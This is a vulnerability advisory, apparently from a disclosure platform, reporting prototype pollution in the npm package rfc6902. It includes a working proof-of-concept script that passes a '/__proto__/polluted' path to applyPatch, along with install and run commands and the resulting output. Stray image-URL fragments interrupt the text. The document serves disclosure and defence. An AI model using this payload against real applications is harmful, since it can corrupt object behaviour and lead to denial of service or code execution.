vulnerability prototype pollution
severity 7.3
language typescript
registry npm


rfc6902 is vulnerable to Prototype Pollution. This package allowing for modification of prototype behavior, which may result in Information Disclosure/DoS/RCE.

Proof of Concept

  1. Create the following PoC file:
// poc.js
var rfc6902 = require("rfc6902")
var obj = {}
console.log("Before : " + {}.polluted);
rfc6902.applyPatch(obj, [{ op: 'add', path: "/__proto__/polluted", value: "Yes! Its Polluted"}]);
console.log("After : " + {}.polluted);
  1. Execute the following commands in anotherterminal:
npm i rfc6902 # Install affected module
node poc.js #  Run thePoC
  1. Check the Output:
Before : undefined
After : Yes! Its Polluted